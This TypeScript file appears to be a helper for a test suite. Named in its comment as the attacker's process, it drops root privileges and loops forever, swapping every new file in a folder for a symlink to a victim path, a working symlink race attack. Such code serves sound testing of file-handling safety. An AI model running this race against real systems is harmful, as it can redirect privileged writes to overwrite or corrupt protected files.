// The attacker's process. It drops root's rights and replaces every new file in the folder with a link to the victim, until it
// is ended. Arguments: the folder, the victim.

import { readdirSync, renameSync, symlinkSync, unlinkSync } from "node:fs";
import { join } from "node:path";
import { OTHER } from "./place.ts";

if (import.meta.main) {
  const [folder = "", victim = ""] = process.argv.slice(2);
  process.setgroups?.([OTHER]);
  process.setgid?.(OTHER);
  process.setuid?.(OTHER);
  process.stdout.write("ready\n");
  for (let round = 0; ; round++) {
    for (const name of readdirSync(folder))
      if (name.startsWith("new")) swap(join(folder, name), victim, round);
  }
}

/** Replaces by renaming, so that the name always exists. */
function swap(path: string, victim: string, round: number): void {
  const link = `${path.replace("/new", "/link")}.${round}`;
  try {
    symlinkSync(victim, link);
    renameSync(link, path);
  } catch {
    try {
      unlinkSync(link);
    } catch {
      // There is no link to remove.
    }
  }
}
